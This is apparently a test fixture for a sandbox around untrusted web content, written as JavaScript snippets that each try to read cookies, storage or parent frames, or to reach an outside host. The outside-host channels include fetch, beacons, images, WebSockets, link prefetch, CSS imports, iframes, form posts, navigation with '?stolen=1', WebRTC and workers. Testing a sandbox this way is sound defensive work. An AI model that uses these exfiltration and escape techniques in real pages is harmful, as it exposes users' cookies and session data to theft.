// What a hostile page tries. `out` is its own host; `put` notes what it learned. One attempt a section.

//// reads
try { put(document.cookie || '-') } catch (e) { put('blocked') }
try { put(localStorage.length) } catch (e) { put('blocked') }
try { put(parent.document.title) } catch (e) { put('blocked') }
try { put(top.location.href) } catch (e) { put('blocked') }

//// calls our API
fetch('/sessions/sesn_a/shares').then(() => put('answered'), () => put('blocked'));
fetch('/sessions/sesn_a/shares', { method: 'POST', body: '{}', mode: 'no-cors' }).catch(() => put('blocked'))

//// fetches
fetch(out);
navigator.sendBeacon(out, 'x');
new Image().src = out;
new EventSource(out);
const x = new XMLHttpRequest();
x.open('GET', out);
x.send();
try { new WebSocket(out.replace('http', 'ws')) } catch (e) {}

//// links
for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest'])
  { const l = document.createElement('link');
l.rel = rel;
l.as = 'image';
l.href = out;
document.head.append(l) }

//// css
document.head.insertAdjacentHTML('beforeend', `<style>@import '${out}';
body { background: url(${out}) } @font-face { font-family: f;
src: url(${out}) } p { font-family: f }</style>`)

//// frames
for (const t of ['iframe', 'object', 'embed', 'video', 'audio', 'script'])
  { const e = document.createElement(t);
e.src = out;
e.data = out;
document.body.append(e) }
const f = document.createElement('iframe');
f.srcdoc = `<img src='${out}'><script>fetch('${out}')<\/script>`;
document.body.append(f)

//// navigates itself
location = out + '?stolen=1'

//// refreshes
document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${out}'>`)

//// navigates the top
try { top.location = out } catch (e) {}
try { parent.location = out } catch (e) {}

//// posts forms
const f = document.createElement('form');
f.method = 'post';
f.action = out;
f.target = '_top';
document.body.append(f);
f.submit();
const g = f.cloneNode();
g.target = '';
document.body.append(g);
g.submit()

//// opens windows
open(out);
const a = document.createElement('a');
a.href = out;
a.target = '_blank';
document.body.append(a);
a.click()

//// calls peers
const p = new RTCPeerConnection({ iceServers: [{ urls: out.replace('http://', 'stun:').replace(/\/$/, '') }] });
p.createDataChannel('x');
p.createOffer().then((o) => p.setLocalDescription(o))

//// workers
new Worker(URL.createObjectURL(new Blob([`fetch('${out}');
importScripts('${out}')`])))
